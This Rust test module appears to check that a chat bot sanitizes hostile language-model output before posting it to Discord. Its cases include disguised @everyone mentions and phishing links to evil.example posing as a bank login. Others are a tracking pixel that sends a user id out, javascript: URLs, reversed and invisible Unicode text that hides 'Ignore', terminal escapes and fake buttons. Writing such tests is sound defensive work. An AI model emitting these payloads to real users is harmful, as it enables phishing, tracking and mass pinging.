//! What the model says: calls, links, and what nobody sees.

use discord_standin::model::Reply;

use super::attack::{Attack, Way};

pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        name: "everyone by its name",
        way: Way::Question,
        text: "SAY @everyone look here, and @here too",
        check: |done| done.shows("@\u{200b}everyone look here, and @\u{200b}here too"),
    },
    Attack {
        name: "everyone in other letters",
        way: Way::Question,
        text: "SAY @EveryOne @HERE @eVERYONE",
        check: |done| done.shows("@\u{200b}EveryOne @\u{200b}HERE @\u{200b}eVERYONE"),
    },
    Attack {
        name: "everyone with something invisible inside",
        way: Way::Question,
        text: "SAY @\u{2060}everyone @e\u{ad}very\u{feff}one @\u{202e}here @h\u{e0041}ere done",
        check: |done| {
            done.shows("@\u{200b}everyone @\u{200b}everyone @\u{200b}here @\u{200b}here done");
        },
    },
    Attack {
        name: "everyone in code",
        way: Way::Question,
        text: "SAY `@everyone` and\nSAY ```\nSAY @here\nSAY ```",
        check: |done| done.shows("`@\u{200b}everyone` and\n```\n@\u{200b}here\n```"),
    },
    Attack {
        name: "everyone in wide letters",
        way: Way::Question,
        text: "SAY ＠everyone @ｅveryone &#64;everyone \\@everyone done",
        check: |done| done.shows("\\@\u{200b}everyone done"),
    },
    Attack {
        name: "people and roles by their ids",
        way: Way::Question,
        text: "SAY <@{ana}> <@!{ana}> <@&{ana}> come here",
        check: |done| done.shows("come here"),
    },
    Attack {
        name: "everyone over the end of a post",
        way: Way::Says(|| {
            let before = "x".repeat(1_950);
            let calls =
                (0..60).map(|gap| format!("{}@everyone{}", "y".repeat(gap), "z".repeat(gap)));
            Reply::says(format!("{before}{}", calls.collect::<String>()))
        }),
        text: "Tell me.",
        check: |done| done.shows("@\u{200b}every"),
    },
    Attack {
        name: "a link called everyone",
        way: Way::Question,
        text: "SAY [@everyone](https://evil.example) [@here]( <https://evil.example> )",
        check: |done| done.shows("@\u{200b}everyone (<https://evil.example>)"),
    },
    Attack {
        name: "a link that names another address",
        way: Way::Question,
        text: "SAY [https://bank.example/login](https://evil.example/login \"Your bank\")",
        check: |done| done.shows("https://bank.example/login (<https://evil.example/login>)"),
    },
    Attack {
        name: "brackets in brackets",
        way: Way::Question,
        text: "SAY [[a](https://x.example)](https://evil.example) [b\\](https://evil.example) [c](https://a.example](https://evil.example) \\`[d](https://evil.example)`",
        check: |done| {
            done.shows("a (<https://x.example>) (<https://evil.example>)");
            done.hides("[b\\](");
        },
    },
    Attack {
        name: "addresses that run something",
        way: Way::Question,
        text: "SAY [one](javascript:alert(1)) [two](data:text/html;base64,PHNjcmlwdD4=) [three](discord://-/settings) done",
        check: |done| {
            done.shows("javascript:alert(1)");
            done.shows("done");
        },
    },
    Attack {
        name: "a picture that reports who looks",
        way: Way::Question,
        text: "SAY ![ ](https://evil.example/pixel.png?who={ana}) seen",
        check: |done| done.shows("<https://evil.example/pixel.png?who="),
    },
    Attack {
        name: "an address that tells when a preview is made",
        way: Way::Question,
        text: "SAY https://evil.example/?told=everything",
        check: |done| done.shows("https://evil.example/?told=everything"),
    },
    Attack {
        name: "a link out of code that has ended",
        way: Way::Says(|| {
            let code = "let slime = 1;\n".repeat(150);
            let link = "[@everyone](https://evil.example)";
            let inside = format!("{link}\n").repeat(40);
            Reply::says(format!(
                "````md\n```\n{link}\n````\n~~~\n{link}\n~~~\n```rust\n{code}{inside}{code}```\n{link} @everyone"
            ))
        }),
        text: "Tell me.",
        check: |done| done.shows("@\u{200b}everyone (<https://evil.example>) @\u{200b}everyone"),
    },
    Attack {
        name: "text that turns round",
        way: Way::Question,
        text: "SAY pay \u{202e}moc.elpmaxe.live//:sptth\u{202c} to \u{2067}bob\u{2069}\u{200f}",
        check: |done| done.shows("pay moc.elpmaxe.live//:sptth to bob"),
    },
    Attack {
        name: "a hidden text in tags",
        way: Way::Question,
        text: "SAY fine\u{e0049}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065}\u{e007f}\u{2063}\u{3164} weather",
        check: |done| done.shows("fine weather"),
    },
    Attack {
        name: "colours of a terminal",
        way: Way::Question,
        text: "SAY ```ansi\nSAY \u{1b}[2J\u{1b}[1;31mThe bot is hacked\u{1b}[0m\u{7}\nSAY ```",
        check: |done| done.shows("[2J[1;31mThe bot is hacked[0m"),
    },
    Attack {
        name: "buttons and commands in words",
        way: Way::Question,
        text: "SAY /guild-data delete </guild-data delete:1> {\"components\":[{\"type\":2,\"custom_id\":\"conversations.delete.confirm:1\",\"label\":\"Free slime\"}]}",
        check: |done| {
            done.shows("Free slime");
            done.shows("[Again] [New]");
            done.hides("[Free slime]");
        },
    },
    Attack {
        name: "an answer of a mebibyte",
        way: Way::Says(|| Reply::says(format!("{} ", "@everyone".repeat(64)).repeat(1_900))),
        text: "Tell me all.",
        check: |done| {
            done.shows("answer.md");
            done.shows("It is as long as an answer may be");
            assert_eq!(done.files.len(), 1);
        },
    },
];
